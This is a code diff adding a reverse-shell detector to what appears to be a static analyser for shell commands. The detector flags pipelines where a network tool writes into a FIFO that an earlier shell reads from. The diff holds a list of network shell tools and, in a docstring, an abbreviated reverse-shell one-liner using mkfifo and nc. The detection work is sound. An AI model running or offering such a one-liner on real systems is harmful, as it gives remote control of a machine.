@@ -11,6 +11,7 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING
 
+from . import _rules as R
 from . import ast
 from ._checks import check_args, check_write
 from ._files import file_taint
@@ -117,3 +118,42 @@ def redirect_output(run: Run, redirects: tuple[ast.Redirect, ...], out: Flow) ->
     return out
 
 # --- simple commands --------------------------------------------------------------------
+
+
+_NET_TOOLS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
+                        "telnet", "openssl", "cryptcat", "sbd"})
+_FILE_READERS = frozenset({"cat", "tail", "tac", "dd", "tee"})
+
+
+def fifo_shell(run: Run, pipeline: ast.Pipeline) -> None:
+    """``mkfifo p; sh < p | nc h 1 > p``: a network tool after a shell in a pipeline writes
+    into the file the shell's side reads (``< p`` or ``cat p |``): the shell's input comes
+    from the network and its output goes back (a reverse shell through a FIFO)."""
+    from ._checks import interpreter_family  # late: _checks is heavier than this module
+    from ._resolve import program_name
+
+    reads: dict[str, int] = {}
+    shell_at = -1
+    for index, sub in enumerate(pipeline.commands):
+        if not isinstance(sub, ast.SimpleCommand) or not sub.words:
+            continue
+        name = program_name(sub.words[0].literal_value() or "")
+        for r in sub.redirects:
+            target = r.target.literal_value() if r.target is not None else None
+            if r.op in ("<", "<>") and target and r.fd in (None, "0"):
+                reads.setdefault(target, index)
+        if name in _FILE_READERS:
+            for w in sub.words[1:]:
+                value = w.literal_value()
+                if value and not value.startswith("-"):
+                    reads.setdefault(value, index)
+        if shell_at < 0 and (name in R.SHELLS or interpreter_family(name) is not None):
+            shell_at = index
+        elif shell_at >= 0 and name in _NET_TOOLS:
+            for r in sub.redirects:
+                target = r.target.literal_value() if r.target is not None else None
+                if r.op in (">", ">>", ">|") and target in reads and reads[target] <= shell_at:
+                    run.add("shell.reverse-shell", sub.span, f"{name} writes what it receives "
+                            f"into {target}, which the shell before it reads: a reverse "
+                            "shell through a FIFO", None)
+                    return
